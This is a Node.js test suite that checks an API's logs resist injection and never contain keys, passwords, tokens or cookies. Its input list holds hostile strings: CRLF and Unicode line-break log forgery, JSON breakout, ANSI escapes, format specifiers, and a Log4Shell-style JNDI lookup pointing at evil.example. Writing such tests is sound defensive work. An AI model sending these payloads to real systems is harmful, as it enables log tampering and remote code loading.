// Log injection: whatever a client sends, a line of the log is one line, valid JSON, and holds no
// secret.

import assert from 'node:assert/strict';
import test from 'node:test';
import { exchange } from '../lib/http.mjs';
import { anyAddress, call, kApi, openTarget, owner } from '../lib/target.mjs';

const kForged = '{"level":"error","message":"forged","user":"root"}';
const kEvil = [`x\n${kForged}`, `x\r\n${kForged}`, `x\u2028${kForged}`, 'x\u0000y', '\u001b[31mred',
  `","level":"error","forged":"`, '${jndi:ldap://evil.example}', '%0a%0dforged', '%s%n%x'];

let target;
let ada;
test.before(async (context) => {
  if (process.env.CROW_TEST_URL) {
    context.skip?.('the log of a running platform cannot be read');
    return;
  }
  target = await openTarget();
  ada = await owner(target);
});
test.after(() => target?.dispose());

const latin1 = (text) => Buffer.from(text, 'utf8').toString('latin1');

test('what clients send forges no line', { skip: Boolean(process.env.CROW_TEST_URL) }, async () => {
  target.logs.length = 0;
  for (const evil of kEvil) {
    const encoded = encodeURIComponent(evil);
    const header = latin1(evil.replace(/[\r\n\0]/g, ' '));
    for (const request of [
      { target: `${kApi}/users/${encoded}` },
      { target: `${kApi}/nothing/${encoded}?q=${encoded}` },
      { target: `${kApi}/products?q=${encoded}&sort=${encoded}` },
      { target: `${kApi}/users/me`, more: [['User-Agent', header], ['Referer', header],
        ['X-Request-Id', header], ['traceparent', header]] },
      { target: `${kApi}/users/me`, more: [['X-API-Key', header]] },
    ]) {
      await exchange(target.url, { target: request.target, headers: [
        ['CF-Connecting-IP', anyAddress()], ['X-API-Key', ada.key], ...request.more ?? []] });
    }
    for (const [path, body] of [
      ['/auth/sign-in/email', { email: `${evil}@northwind.example`, password: evil }],
      ['/auth/sign-up/email', { name: evil, email: 'a@b', password: evil }],
      ['/auth/api-key/verify', { key: evil }], ['/auth/reset-password',
        { token: evil, newPassword: evil }]]) {
      await call(target, 'POST', kApi + path, { body });
    }
    await call(target, 'POST', `${kApi}/products`,
      { key: ada.key, body: { name: evil, price: evil } });
    await call(target, 'POST', `${kApi}/interactions`, { key: ada.key, body: `{"id": ${evil}` });
  }
  for (const { message } of target.logs) {
    assert.ok(!/[\n\r\u2028\u001b\0]/.test(message), JSON.stringify(message));
    if (message.startsWith('{')) {
      const line = JSON.parse(message);
      assert.equal(line.forged, undefined);
      assert.notEqual(line.message, 'forged');
    }
  }
});

test('no secret is in the log', { skip: Boolean(process.env.CROW_TEST_URL) }, async () => {
  const secrets = [ada.key, ada.password, ada.token, decodeURIComponent(ada.cookie.split('=')[1]),
    target.secrets.INTERNAL_KEY, target.secrets.AUTH_SECRET];
  for (const path of ['/users/me', '/nothing', '/products/none', '/auth/get-session']) {
    for (const who of [{ key: ada.key }, { cookie: ada.cookie },
      { headers: { Authorization: `Bearer ${ada.token}` } }]) {
      await call(target, 'GET', kApi + path, who);
    }
  }
  await call(target, 'POST', `${kApi}/auth/sign-in/email`,
    { body: { email: ada.email, password: ada.password, more: 'x' } });
  const text = JSON.stringify(target.logs);
  for (const secret of secrets) assert.ok(!text.includes(secret), 'a secret is in the log');
});
